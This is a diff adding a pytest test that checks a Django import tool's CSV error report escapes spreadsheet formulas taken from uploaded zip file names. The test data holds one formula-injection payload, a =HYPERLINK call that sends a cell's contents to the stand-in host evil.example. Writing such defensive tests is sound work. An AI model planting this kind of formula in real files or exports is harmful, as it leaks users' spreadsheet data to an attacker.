@@ -4,6 +4,7 @@ import csv
 import io
 import json
 import time
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -173,3 +174,24 @@ def test_queued_job_can_be_cancelled_and_the_worker_leaves_it(client_for, review
     assert (response.status_code, response.json()["status"]) == (202, "cancelled")
     assert run_import(job.pk).status == Status.CANCELLED
     assert AuditEvent.objects.filter(action="import.cancelled", object_id=job.pk).exists()
+
+
+def test_errors_csv_escapes_formula_cells_from_the_upload(client_for, reviewer):
+    from django.core.files.base import ContentFile
+
+    from annotations.importing.run import run_import
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr('=HYPERLINK("https://evil.example/?"&A1,"Open").txt', b"")
+        archive.writestr("ok.txt", b"Headline\nThe body of a good story.")
+    job = start_import(created_by=reviewer, upload=ContentFile(buffer.getvalue(), name="d.zip"))
+    run_import(job.pk)
+    [error] = ImportJob.objects.get(pk=job.pk).errors
+    assert error["file"].startswith("=HYPERLINK")  # the JSON report keeps the name as it was
+
+    response = client_for(reviewer).get(f"{URL}{job.pk}/errors/?format=csv")
+
+    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["file"] == "'" + error["file"]
+    assert row["message"] == error["message"]
